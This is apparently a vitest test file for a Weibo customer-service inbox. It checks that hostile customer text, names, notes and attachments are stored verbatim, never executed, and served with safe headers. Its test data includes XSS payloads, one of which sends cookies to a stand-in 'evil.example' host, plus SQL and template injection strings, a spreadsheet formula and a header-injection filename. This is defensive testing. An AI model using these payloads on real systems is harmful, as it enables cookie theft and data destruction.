import type { EngineHub } from '../support/faults/engine-hub.ts'
import type { WeiboEngine } from '../support/faults/weibo-engine.ts'
import { Buffer } from 'node:buffer'
import { afterEach, describe, expect, it } from 'vitest'
import { tinyPng } from '../support/engine/fake-connector.ts'
import { claimOnly, room, rowsOf, until } from '../support/engine/inbox.ts'
import { startTestEngine } from '../support/engine/start-engine.ts'
import { startEngineHub } from '../support/faults/engine-hub.ts'
import { onlyWhenAsked, startWeiboEngine } from '../support/faults/weibo-engine.ts'

const stops: (() => Promise<void>)[] = []
afterEach(async () => {
  for (const stop of stops.splice(0))
    await stop()
})

const segmenter = new Intl.Segmenter('zh')
const graphemesOf = (text: string): string[] => [...segmenter.segment(text)].map(({ segment }) => segment)

const hostile = [
  '<img src=x onerror=alert(1)> 怎么退订？',
  '<script>fetch("https://evil.example/"+document.cookie)</script>怎么退订？',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(2)">退订怎么弄？</a></svg>',
  '[点我](javascript:alert(1)) ![](https://evil.example/p.png) 怎么退订？',
  '{{constructor.constructor("alert(1)")()}} #{7*7} <%= 7*7 %> %s %00 怎么退订？',
  '"; drop table messages; -- 怎么退订？',
  '=HYPERLINK("http://evil.example") 怎么退订？',
  '\u202Egnp.exe\u202C\u200B\uFEFF\u2066 怎么退订？',
  `Z${'\u0301'.repeat(200)}怎么退订？`,
  '👨‍👩‍👧‍👦'.repeat(200),
  '长'.repeat(20_000),
]

describe('F46 markup in what customers write', () => {
  it('F46 through the platform: names and texts are the same to the character in store, inbox, room and search', async () => {
    const w: WeiboEngine = await startWeiboEngine({ settings: { intervalsMs: onlyWhenAsked } })
    stops.push(w.stop)
    w.sandbox.faults.set('F46', { on: true })
    const written = w.sandbox.truth.after(0).filter(entry => !entry.isBrand && ['mention', 'comment', 'comment_mention', 'private_message'].includes(entry.touchpoint))
    expect(written.length).toBeGreaterThan(3)
    await w.poll()
    await until(async () => expect(await w.t.store.read.count('messages', { direction: 'inbound' })).toBeGreaterThanOrEqual(written.length))
    const lin = w.t.desk()
    const rows = await rowsOf(lin, 'all', 1)
    const texts = (await Promise.all(rows.map(row => room(lin, row.id)))).flatMap(view => view.rows.map(line => line.text))
    for (const entry of written)
      expect(texts.some(text => text.includes(entry.text.replace(/^回复@[^:]+:/, ''))), entry.text).toBe(true)
    await until(async () => {
      const names = new Set((await w.t.store.read.find('conversations', {})).map(row => row.customerName))
      expect(written.filter(entry => !names.has(entry.nick)).map(entry => entry.nick)).toEqual([])
    })
  })

  it('F46 as the engine holds it: nothing is escaped, cut, run together or executed on its way to the screen', async () => {
    const h: EngineHub = await startEngineHub()
    stops.push(h.stop)
    for (const [index, text] of hostile.entries())
      h.t.hear({ text, author: { uid: `u${index}`, name: `<b onmouseover=alert(1)>${index}</b>` }, threadKey: `status:${index}:u${index}`, objectKey: `status:${index}` })
    await until(async () => expect(await h.t.store.read.count('messages', { direction: 'inbound' })).toBe(hostile.length))
    const lin = await h.screen('lin')
    for (const conversation of await h.t.store.read.find('conversations', {})) {
      const view = await lin.call('view:open', { view: 'conversation', params: { id: conversation.id } })
      const index = Number(conversation.threadKey.split(':')[1])
      const [line] = view.rows as unknown as { text: string, author: { name: string } }[]
      const { row } = view.summary as { row: { preview: string, customer: { name: string } } }
      expect(line?.text === hostile[index], hostile[index]?.slice(0, 60)).toBe(true)
      expect(line?.author.name).toBe(`<b onmouseover=alert(1)>${index}</b>`)
      expect(row.customer.name).toBe(`<b onmouseover=alert(1)>${index}</b>`)
      expect(hostile[index]?.replaceAll(/\s+/g, ' ').trim().startsWith(row.preview), row.preview.slice(0, 60)).toBe(true)
      expect(row.preview.length).toBeLessThan(500)
      expect(row.preview.isWellFormed() && !row.preview.endsWith('\u200D'), 'F49 cut between characters').toBe(true)
      expect(graphemesOf(hostile[index]!.replaceAll(/\s+/g, ' ').trim()).slice(0, graphemesOf(row.preview).length)).toEqual(graphemesOf(row.preview))
      await lin.call('view:close', { viewId: view.viewId })
    }
  })
})

describe('F46 markup on the finished screens', () => {
  const name = '<b onmouseover=alert(1)>谁</b>'
  const words = '<img src=x onerror=alert(1)> {{7*7}} 怎么退订？'
  const note = '</p><svg onload=alert(2)> {名字} %s'

  it('F46 search, history, notes, tags, the public thread, what is open and many at once say the same words to the character', async () => {
    const t = await startTestEngine()
    stops.push(t.stop)
    t.hear({ text: words, author: { uid: 'u1', name } })
    const lin = t.desk()
    const { row: { id, customer } } = await claimOnly(lin)
    await lin.call('message:note', { conversationId: id, clientKey: 'note-0001', text: note, mentions: ['zhou'] })
    await lin.call('customer:addNote', { customerId: customer.id, text: note })
    await lin.call('customer:setTags', { customerId: customer.id, tags: ['<svg onload=1>'] })
    await lin.call('conversation:setTags', { id, tags: ['<svg onload=1>'] })

    expect((await lin.view('customer', { customerId: customer.id })).summary).toMatchObject({ name, notes: [{ text: note }], tags: ['<svg onload=1>'] })
    expect((await lin.view('history', { customerId: customer.id })).rows).toEqual(expect.arrayContaining([expect.objectContaining({ text: words, who: name }), expect.objectContaining({ text: note, kind: 'note' })]))
    expect((await lin.view('rooms', { ids: [id] })).rows).toMatchObject([{ customer: { name }, tags: ['<svg onload=1>'] }])
    expect((await t.desk('zhou').view('mentions', {})).rows).toMatchObject([{ customerName: name, text: note }])
    expect((await lin.call('shift:open', {})).items).toMatchObject([{ customerName: name, preview: words }])
    expect((await lin.call('thread:load', { conversationId: id })).lines).toMatchObject([{ author: name, text: words }])
    expect((await lin.call('bulk:preview', { conversationIds: [id], variants: ['{称呼}，今天会回您的'] })).lines).toMatchObject([{ customerName: name, text: `${name}，今天会回您的` }])
    await until(async () => expect((await lin.call('search:messages', { query: '怎么退订' })).hits).toMatchObject([{ customerName: name, snippet: `…${words.slice(words.indexOf('ert(1)'))}` }]))
    expect((await lin.call('search:others', { query: 'onmouseover' })).customers.hits).toMatchObject([{ name }])
  })
})

describe('F46 markup in what customers send', () => {
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>')
  const files: [string, string, string | null][] = [
    ['image/svg+xml', 'avatar.svg', 'attachment'],
    ['text/html', '截图.html', 'attachment'],
    ['application/xhtml+xml', 'x.xhtml', 'attachment'],
    ['text/xml', 'x.xml', 'attachment'],
    ['application/pdf', 'a"\r\nSet-Cookie: x=1.pdf', 'attachment'],
    ['image/png', 'ok.png', 'inline'],
  ]

  it.each(files)('F46 %s (%s) leaves the hub as bytes that run nowhere', async (mime, name, disposition) => {
    const h = await startEngineHub()
    stops.push(h.stop)
    const isPicture = disposition === 'inline'
    h.t.weibo.onMedia = () => ({ mime, name, bytes: isPicture ? tinyPng : new Uint8Array(svg) })
    h.t.hear({ text: '看截图，怎么办？', media: [{ kind: isPicture ? 'image' : 'file', ref: 'pic:1' }] })
    const item = await until(async () => {
      const [found] = await h.t.store.read.find('media', { state: 'ready' })
      expect(found).toBeDefined()
      return found!
    })
    const url = new URL(`/media/${item.id}`, h.host.hub.url)
    expect((await fetch(url)).status).toBe(401)
    const answer = await fetch(url, { headers: { Cookie: await h.signIn('lin') } })
    expect(answer.status).toBe(200)
    expect(answer.headers.get('content-disposition')?.split(';')[0]).toBe(disposition)
    expect(answer.headers.get('content-type')).toBe(disposition === 'inline' ? mime : 'application/octet-stream')
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    expect(answer.headers.get('content-security-policy')).toBe('default-src \'none\'; sandbox')
    expect(answer.headers.get('set-cookie')).toBeNull()
    expect(answer.headers.get('cross-origin-resource-policy')).toBe('same-origin')
  })

  it('F46 a program behind a picture\'s name is refused before it is kept', async () => {
    const w = await startWeiboEngine({ settings: { intervalsMs: onlyWhenAsked } })
    stops.push(w.stop)
    w.sandbox.faults.set('F48', { on: true, kind: 'program' })
    w.sandbox.weibo.people.say({ uid: w.customer('发图的'), kind: 'dm', text: '', image: 'broken_screen' })
    await until(async () => expect((await w.t.store.read.find('media', {})).map(item => item.state)).toEqual(['refused']))
    expect((await w.t.store.read.find('media', {}))[0]?.sha256).toBeNull()
  })
})
